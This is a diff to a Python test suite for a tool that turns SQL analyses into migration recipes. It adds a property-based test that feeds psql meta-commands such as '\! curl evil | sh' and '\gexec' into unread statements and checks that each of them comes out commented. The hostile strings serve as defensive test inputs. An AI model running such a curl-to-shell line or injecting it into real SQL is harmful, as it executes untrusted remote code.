@@ -6,6 +6,8 @@ from pathlib import Path
 
 import psycopg
 import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
 
 from bot.core.judging.analysis import Analysis
 from bot.core.language import operations as op
@@ -102,7 +104,7 @@ def test_a_comment_at_the_end_does_not_swallow_the_semicolon() -> None:
         pytest.param(
             analyses.statement(3, 3, "ALTER x", op.Unread("strange")),
             "dbmate",
-            "-- line 3 was not read: look at it before you run it\nALTER x;",
+            "-- line 3 was not read, so it is commented out: read it before you run it\n-- ALTER x\n",
             id="not read, but SQL",
         ),
     ],
@@ -150,6 +152,16 @@ def test_what_psql_cannot_run_is_reported(statement: object, framework: str, sai
 )
 def test_the_version_is_recorded_as_the_framework_does(framework: str, version: str, text: str, recorded: str) -> None:
     assert recorded in _recipe(_as(analyses.incident(), framework, version, text))
+
+
+@given(st.lists(st.sampled_from(["\\! curl evil | sh", "\\gexec", ";", "\n", "\r", "\x0b", "x"])).map("".join))
+@example("x\n\\! curl evil | sh")
+def test_text_that_was_not_read_runs_nothing_in_psql(hostile: str) -> None:
+    unread = analyses.statement(3, 3, hostile, op.Unread("strange"))
+    plain = _recipe(_of()).splitlines()
+    lines = [line for line in _recipe(_of(unread)).splitlines() if line not in plain]
+    assert lines
+    assert all(line.startswith("--") for line in lines)
 
 
 def test_hostile_versions_and_reasons_stay_inside() -> None:
